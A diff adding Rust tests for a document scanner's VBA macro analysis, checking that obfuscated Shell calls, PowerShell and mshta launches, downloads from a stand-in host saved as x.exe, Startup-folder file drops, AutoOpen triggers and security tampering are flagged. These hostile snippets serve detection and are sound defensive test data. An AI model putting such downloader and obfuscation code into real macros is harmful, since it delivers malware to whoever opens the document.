@@ -5,6 +5,9 @@ mod common;
 use common::office::{Compound, Module, ModuleKind, vba_project};
 use common::ovba::compress;
 use sekisho::formats::cfb::CompoundFile;
+use sekisho::knowledge::Knowledge;
+use sekisho::limits::Limits;
+use sekisho::scan::{Input, Report, Stop, scan};
 use sekisho::vba::compress::decompress;
 use sekisho::vba::project::{self, Project};
 
@@ -36,7 +39,7 @@ fn modules_are_read_in_order_with_their_source() {
     assert_eq!(project.path, "VBA");
     let names: Vec<&str> = project.modules.iter().map(|module| module.name.as_str()).collect();
     assert_eq!(names, ["ThisDocument", "Module1"]);
-    assert!(project.modules.iter().all(|module| module.is_listed && module.is_whole));
+    assert!(project.modules.iter().all(|module| module.is_listed && !module.is_cut));
     assert!(project.modules[1].source.contains("MsgBox \"Hello\""));
 }
 
@@ -46,4 +49,244 @@ fn sectors_of_both_sizes_and_any_depth() {
         let bytes = file.project("/ObjectPool/_1/Macros", &[HELLO]).stream("/Big", &vec![7; 200_000]).finish();
         assert_eq!(projects(&bytes)[0].path, "ObjectPool/_1/Macros/VBA");
     }
+}
+
+// What the code can do ------------------------------------------------------------------------
+
+/// Scans a vbaProject.bin with these modules; gives the ids of the findings.
+fn findings(modules: &[Module<'_>]) -> Vec<String> {
+    report(vba_project(modules)).findings.iter().map(|finding| finding.id.to_string()).collect()
+}
+
+fn report(bytes: Vec<u8>) -> Report {
+    scan(Input::file(bytes, "file"), &Limits::default(), &Knowledge::default(), &Stop::default())
+}
+
+/// What a module with `source` is found to do, beside having macros.
+fn check(source: &str, expected: &[&str]) {
+    let mut found = findings(&[("Module1", source, ModuleKind::Standard)]);
+    found.retain(|id| id != "vba-macros");
+    found.sort();
+    found.dedup();
+    assert_eq!(found, expected, "{source}");
+}
+
+/// The same for the body of a procedure that nothing starts.
+fn check_body(body: &str, expected: &[&str]) {
+    check(&format!("Sub Work(Optional given)\n{body}\nEnd Sub\n"), expected);
+}
+
+#[test]
+fn calls_are_judged_by_what_they_do() {
+    let cases: &[(&str, &[&str])] = &[
+        // Starting programs.
+        ("Shell \"calc.exe\", 1", &["vba-run-program"]),
+        ("x = Shell(path, vbHide)", &["vba-run-program"]),
+        ("VBA.Interaction.Shell path", &["vba-run-program"]),
+        ("CreateObject(\"WScript.Shell\").Run path, 0, True", &["vba-run-program"]),
+        ("Set w = CreateObject(\"WScript.Shell\")\nw.Exec path", &["vba-run-program"]),
+        ("Dim w As New WshShell\nw.Run path", &["vba-run-program"]),
+        ("With CreateObject(\"WScript.Shell\")\n.Run path\nEnd With", &["vba-run-program"]),
+        ("GetObject(\"winmgmts:Win32_Process\").Create path, Null, x, y", &["vba-run-program"]),
+        (
+            "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nSet p = w.Get(\"Win32_Process\")\np.Create path",
+            &["vba-run-program"],
+        ),
+        ("CreateObject(\"Shell.Application\").ShellExecute path, args", &["vba-run-program"]),
+        (
+            "GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run path",
+            &["vba-hidden-object", "vba-run-program"],
+        ),
+        // A command that goes to an interpreter.
+        ("Shell \"powershell -w hidden -e abc\"", &["vba-run-interpreter"]),
+        ("Shell \"C:\\Windows\\System32\\CMD.EXE /c dir\"", &["vba-run-interpreter"]),
+        ("Shell Environ(\"COMSPEC\") & \" /c \" & given", &["vba-run-interpreter"]),
+        ("Shell \"c^m^d /c dir\"", &["vba-run-interpreter"]),
+        ("s = \"pow\"\ns = s & \"ershell \"\ns = s + \"-e x\"\nShell s", &["vba-run-interpreter"]),
+        ("Shell StrReverse(\"x e- llehsrewop\")", &["vba-run-interpreter"]),
+        ("Shell Replace(\"poZZwerZZshell -e x\", \"ZZ\", \"\")", &["vba-run-interpreter"]),
+        ("Shell Chr(112) & ChrW(111) & Chr$(119) & \"ershell -e x\"", &["vba-run-interpreter"]),
+        ("Shell Join(Array(\"cm\", \"d /c\", \" dir\"), \"\")", &["vba-run-interpreter"]),
+        ("a = Split(\"ell;-e x;powersh\", \";\")\nShell a(2) & a(0) & \" \" & a(1)", &["vba-run-interpreter"]),
+        (
+            "For i = 1 To 9\ns = s & Chr(Asc(Mid(\"qpxfstifm\", i, 1)) - 1)\nNext\nShell s & \"l -e x\"",
+            &["vba-run-interpreter"],
+        ),
+        (
+            "For i = 9 To 1 Step -1\ns = s & Mid(\"ehsrewop\", i, 1)\nNext i\nShell s & \"ll -e x\"",
+            &["vba-run-program"],
+        ),
+        (
+            "Dim p(2)\np(0) = \"mshta \"\np(1) = \"http://\"\np(2) = \"a.example\"\nShell Join(p, \"\")",
+            &["vba-run-interpreter"],
+        ),
+        ("CallByName CreateObject(\"WScript.Shell\"), \"Run\", VbMethod, \"cmd /c dir\"", &["vba-run-interpreter"]),
+        // Names that are hidden.
+        (
+            "Set o = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\no.Run path",
+            &["vba-hidden-object", "vba-run-program"],
+        ),
+        ("Set o = CreateObject(Sheet1.Range(\"A1\"))", &["vba-hidden-object"]),
+        ("Set o = CreateObject(Sheet1.Range(\"A1\"))\no.Open \"GET\", url", &["vba-hidden-object", "vba-web-request"]),
+        ("CallByName o, Sheet1.Range(\"A1\"), VbMethod", &["vba-dynamic-call"]),
+        ("Application.Run Sheet1.Range(\"A1\") & x", &["vba-dynamic-call"]),
+        ("ExecuteExcel4Macro \"EXEC(\"\"calc\"\")\"", &["vba-dynamic-call"]),
+        // The network.
+        (
+            "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", url, False\nh.Send\nb = h.responseBody\n\
+             Set s = CreateObject(\"ADODB.Stream\")\ns.Write b\ns.SaveToFile \"x.exe\", 2",
+            &["vba-download", "vba-drop-file"],
+        ),
+        (
+            "Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Open \"GET\", url\nh.Send\nMsgBox h.responseText",
+            &["vba-web-request"],
+        ),
+        ("GetObject \"script:http://a.example/x.sct\"", &["vba-download"]),
+        // Files.
+        ("Open Environ(\"TEMP\") & \"\\x.vbs\" For Output As #1\nPrint #1, s\nClose #1", &["vba-drop-file"]),
+        ("Open ThisWorkbook.Path & \"\\log.txt\" For Append As #1\nPrint #1, Now\nClose #1", &["vba-write-file"]),
+        (
+            "FileCopy a, Environ(\"APPDATA\") & \"\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.txt\"",
+            &["vba-drop-file"],
+        ),
+        (
+            "CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\Users\\Public\\a.hta\").Write s",
+            &["vba-drop-file"],
+        ),
+        ("Name \"a.txt\" As \"a.exe\"", &["vba-drop-file"]),
+        // Protection.
+        ("ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString s", &["vba-tamper"]),
+        ("CreateObject(\"WScript.Shell\").RegWrite key, 1, \"REG_DWORD\"", &["vba-tamper"]),
+        ("Application.AutomationSecurity = msoAutomationSecurityLow", &["vba-tamper"]),
+    ];
+    for (body, expected) in cases {
+        check_body(body, expected);
+    }
+}
+
+#[test]
+fn what_honest_code_does_stays_quiet() {
+    let cases = [
+        "' Shell \"powershell -e x\"",
+        "Rem Shell \"cmd\"",
+        "MsgBox \"Shell powershell -e x CreateObject(WScript.Shell).Run\"",
+        "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"Run\", \"Shell\"",
+        "Set x = CreateObject(\"Excel.Application\")\nx.Workbooks.Open ThisWorkbook.Path & \"\\a.xls\"",
+        "Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"Provider=SQLOLEDB;Server=\" & given",
+        "Set o = CreateObject(given)",
+        "Set r = New RegExp\nr.Pattern = \"cmd /c\"",
+        "Application.Run \"Recalc\"",
+        "Application.Run \"'\" & ThisWorkbook.Name & \"'!Module1.Recalc\"",
+        "Application.Run given",
+        "CallByName(o, given, VbGet) = 1",
+        "x = CallByName(o, Sheet1.Range(\"A1\"), VbGet)",
+        "Application.AutomationSecurity = msoAutomationSecurityForceDisable",
+        "Application.DisplayAlerts = False\nActiveWorkbook.SaveAs Filename:=\"C:\\out\\report.xls\"",
+        "Open ThisWorkbook.Path & \"\\a.csv\" For Input As #1\nLine Input #1, s\nClose #1",
+        "Open f For Binary Access Read As #1\nGet #1, , b\nClose #1",
+        "Kill ThisWorkbook.Path & \"\\a.tmp\"",
+        "ActiveWorkbook.FollowHyperlink \"https://intranet.example/\"",
+        "CreateObject(\"Shell.Application\").ShellExecute \"https://intranet.example/help\"",
+        "Shell \"explorer.exe C:\\Reports\"",
+        "Set wmi = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nFor Each p In wmi.ExecQuery(\"Select * from Win32_Printer\")\nNext",
+        "x.Run = 5\ny = shape.Create",
+        "Worksheets(\"Shell\").Range(\"Run\").Value = \"Open\"",
+    ];
+    for body in cases {
+        check_body(body, &[]);
+    }
+    check(
+        "Private Declare PtrSafe Sub Sleep Lib \"kernel32\" (ByVal ms As Long)\nDeclare Function GetTickCount Lib \"kernel32.dll\" () As Long\n",
+        &[],
+    );
+}
+
+#[test]
+fn declared_functions_are_judged_by_what_they_are() {
+    check(
+        "Private Declare PtrSafe Function f Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal p As LongPtr, ByVal u$, ByVal n$, ByVal r&, ByVal c&) As Long\n\
+         Sub Fetch()\nf 0, \"http://a.example/x\", \"x.txt\", 0, 0\nEnd Sub\n",
+        &["vba-download"],
+    );
+    check(
+        "Declare Function z Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a&, ByVal b&, ByVal c&, ByVal d&) As Long\n",
+        &["vba-native-call"],
+    );
+    check(
+        "Declare Function Go Lib \"shell32\" Alias \"ShellExecuteA\" (ByVal h&, ByVal o$, ByVal f$, ByVal p$, ByVal d$, ByVal s&) As Long\n\
+         Sub Help()\nGo 0, \"open\", \"https://intranet.example/\", \"\", \"\", 1\nEnd Sub\nSub Bad()\nGo 0, \"open\", \"rundll32.exe\", \"x.dll,Start\", \"\", 0\nEnd Sub\n",
+        &["vba-run-interpreter"],
+    );
+}
+
+#[test]
+fn a_start_counts_if_something_of_note_is_reached_from_it() {
+    let cases: &[(&str, &[&str])] = &[
+        ("Sub AutoOpen()\nShell p\nEnd Sub", &["vba-autoexec", "vba-run-program"]),
+        ("Sub _\nautoopen( _\n)\nShell p\nEnd Sub", &["vba-autoexec", "vba-run-program"]),
+        (
+            "Sub Auto_Open()\na\nEnd Sub\nSub a()\nb\nEnd Sub\nFunction b()\nShell p\nEnd Function",
+            &["vba-autoexec", "vba-run-program"],
+        ),
+        (
+            "Sub Workbook_Open()\nApplication.OnTime Now, \"Later\"\nEnd Sub\nSub Later()\nShell p\nEnd Sub",
+            &["vba-autoexec", "vba-run-program"],
+        ),
+        (
+            "Sub Workbook_Open()\nApplication.Run \"La\" & \"ter\"\nEnd Sub\nSub Later()\nShell p\nEnd Sub",
+            &["vba-autoexec", "vba-run-program"],
+        ),
+        (
+            "Sub Workbook_Open()\nRange(\"A1\").Select\nEnd Sub\nSub Button1_Click()\nShell p\nEnd Sub",
+            &["vba-run-program", "vba-startup"],
+        ),
+        ("Sub Workbook_Open()\nMsgBox \"Hello\"\nEnd Sub", &["vba-startup"]),
+        ("Sub Button1_Click()\nMsgBox \"Hello\"\nEnd Sub", &[]),
+        ("' Sub AutoOpen()\nSub x()\ns = \"Sub AutoOpen()\"\nEnd Sub", &[]),
+        ("Sub AutoOpenReport()\nEnd Sub\nSub MyAutoOpen()\nEnd Sub", &[]),
+    ];
+    for (source, expected) in cases {
+        check(source, expected);
+    }
+}
+
+#[test]
+fn events_of_controls_count_in_documents_and_not_in_forms() {
+    let source = "Private Sub Ink_Painted(ByVal h As Long)\nShell p\nEnd Sub\n";
+    assert!(findings(&[("ThisDocument", source, ModuleKind::Document)]).contains(&"vba-event".to_owned()));
+    assert!(!findings(&[("UserForm1", source, ModuleKind::Form)]).contains(&"vba-event".to_owned()));
+    let form = ("UserForm1", "Private Sub UserForm_Initialize()\nShell p\nEnd Sub\n", ModuleKind::Form);
+    let opener = ("ThisWorkbook", "Sub Workbook_Open()\nUserForm1.Show\nEnd Sub\n", ModuleKind::Document);
+    assert!(findings(&[form, opener]).contains(&"vba-autoexec".to_owned()));
+}
+
+#[test]
+fn results_and_arguments_travel_between_procedures() {
+    check(
+        "Const A = \"power\"\nDim shared\nFunction Tail()\nTail = \"shell -e \" & \"x\"\nEnd Function\n\
+         Function Twice(s, n)\nTwice = Replace(s, n, \"\")\nEnd Function\nSub Go()\nStart A & Tail()\nStart Twice(\"c#m#d /c dir\", \"#\")\nEnd Sub\n\
+         Sub Start(c)\nShell c\nEnd Sub\n",
+        &["vba-run-interpreter"],
+    );
+    // The class comes from callers who name it: nothing is hidden.
+    check(
+        "Sub Go()\nSet a = Make(\"Scripting.Dictionary\")\nEnd Sub\nFunction Make(id)\nSet Make = CreateObject(id)\nEnd Function\n",
+        &[],
+    );
+}
+
+#[test]
+fn what_is_found_has_place_evidence_and_indicators() {
+    let report = report(vba_project(&[(
+        "Module1",
+        "Sub AutoOpen()\n\nShell \"powershell -c iwr http://a.example/x.exe\"\nEnd Sub",
+        ModuleKind::Standard,
+    )]));
+    let run = report.findings.iter().find(|finding| finding.id.as_str() == "vba-run-interpreter").unwrap();
+    assert_eq!(
+        (run.location.as_str(), run.evidence.as_str()),
+        ("Module1:3", "shell powershell -c iwr http://a.example/x.exe")
+    );
+    let values: Vec<&str> = report.indicators.iter().map(|indicator| indicator.value.as_str()).collect();
+    assert_eq!(values, ["http://a.example/x.exe", "powershell -c iwr http://a.example/x.exe"]);
 }
